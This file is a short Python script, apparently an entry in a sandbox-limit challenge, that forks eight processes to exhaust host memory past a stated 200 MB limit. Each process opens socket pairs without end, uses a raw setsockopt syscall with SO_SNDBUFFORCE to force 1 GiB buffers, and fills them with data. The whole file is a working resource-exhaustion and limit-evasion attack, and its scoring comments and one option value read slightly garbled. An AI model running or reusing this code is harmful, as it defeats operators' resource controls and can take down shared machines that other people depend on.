"""Takes memory in the buffers of sockets, made as large as they can be."""

# earns: double 4, Counter 2, twice 3
# limits: memory_bytes=200_000_000
# shows: GB of memory

# %%
import ctypes
import os
import socket
import time

libc = ctypes.CDLL(None, use_errno=True)
large = ctypes.c_int(2**30)
for _ in range(8):
    if os.fork() == 0:
        held = []
        try:
            while True:
                pair = socket.socketpair()
                held += pair
                for end in pair:
                    for option in (7, 32, 7 | 1 << 32):  # SO_SNDBUF, SO_SNDBUFFORCE
                        libc.syscall(54, end.fileno(), 1, ctypes.c_ulong(option), ctypes.byref(large), 4)
                    end.setblocking(False)
                    try:
                        while True:
                            end.send(bytes(65536))
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(100)
time.sleep(10)
print("it has it all")
